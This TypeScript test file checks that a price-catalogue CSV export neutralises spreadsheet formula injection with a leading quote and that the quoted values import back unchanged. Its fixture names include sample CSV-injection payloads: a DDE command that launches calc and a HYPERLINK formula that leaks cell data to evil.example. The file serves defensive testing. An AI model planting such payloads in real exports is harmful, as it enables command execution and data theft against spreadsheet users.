import { asSpreadsheetText, formatCsv, fromSpreadsheetText, parseCsv } from '@/lib/csv'
import { applyPriceTable, readPriceCatalogue, type ContentDocument } from '../../scripts/prices/price-catalogue'
import { exportPriceRows, importPriceRows } from '../../scripts/prices/price-table-csv'

// Names an editor (or someone with an editor's token) could give a make, a model and a grade: a
// spreadsheet opening the exported CSV would run each as a formula (OWASP's "CSV injection").
const FORMULAS = {
  make: '@SUM(1+1)*cmd|" /C calc"!A0',
  model: '=HYPERLINK("http://evil.example/?leak="&A2,"Update prices")',
  grade: '-2+3',
}

const DOCUMENTS: ContentDocument[] = [
  {
    _id: 'grade-good',
    _type: 'conditionGrade',
    name: FORMULAS.grade,
    key: { _type: 'slug', current: 'good' },
    rank: 1,
  },
  { _id: 'grade-fair', _type: 'conditionGrade', name: 'Fair', key: { _type: 'slug', current: 'fair' }, rank: 2 },
  { _id: 'make-evil', _type: 'deviceMake', name: FORMULAS.make, order: 1 },
  {
    _id: 'model-evil',
    _type: 'deviceModel',
    name: FORMULAS.model,
    slug: { _type: 'slug', current: 'evil' },
    make: { _type: 'reference', _ref: 'make-evil' },
    category: 'phone',
    order: 1,
    variants: [
      {
        _key: '128gb',
        _type: 'storageVariant',
        storageGb: 128,
        prices: [
          { _key: 'good', _type: 'gradePrice', grade: { _type: 'reference', _ref: 'grade-good' }, pence: 15_200 },
          { _key: 'fair', _type: 'gradePrice', grade: { _type: 'reference', _ref: 'grade-fair' }, pence: 9_000 },
        ],
      },
    ],
  },
]
const catalogue = readPriceCatalogue(DOCUMENTS)
const written = formatCsv(exportPriceRows(catalogue))

describe('price CSV cells a spreadsheet would run as formulas', () => {
  it('are written with a leading quote, so a spreadsheet shows them as text', () => {
    const cells = parseCsv(written).flat()
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(cells).toEqual(expect.arrayContaining([`'${FORMULAS.make}`, `'${FORMULAS.model}`, `'${FORMULAS.grade}`]))
  })

  it('are read back as they were: importing the export changes nothing', () => {
    const result = importPriceRows(parseCsv(written), catalogue)
    if (!result.ok) throw new Error(result.errors.join('\n'))
    expect(applyPriceTable(catalogue, result.table)).toEqual([])
  })

  it('round-trip exactly, including text that already began with a quote', () => {
    const texts = ['=1+1', '+44 20', '-5.00', '@x', '\tx', '\rx', "'=x", "''", "'plain", "'", 'plain', '', '152.00']
    for (const text of texts) expect(fromSpreadsheetText(asSpreadsheetText(text))).toBe(text)
    expect(texts.map(asSpreadsheetText)).toEqual([
      "'=1+1",
      "'+44 20",
      "'-5.00",
      "'@x",
      "'\tx",
      "'\rx",
      "''=x",
      "'''",
      "'plain",
      "'",
      'plain',
      '',
      '152.00',
    ])
  })

  it('leave a negative number what it is, with or without the quote: a price below zero is refused', () => {
    const header = 'make,model,model_slug,storage_gb,grade,price_gbp'
    for (const price of ['-5.00', "'-5.00"]) {
      const result = importPriceRows(
        parseCsv(`${header}\nx,y,evil,128,good,${price}\nx,y,evil,128,fair,90\n`),
        catalogue,
      )
      expect(result).toEqual({
        ok: false,
        errors: ['Row 2: price "-5.00" is not an amount of pounds and pence above zero, such as 152.00.'],
      })
    }
  })
})
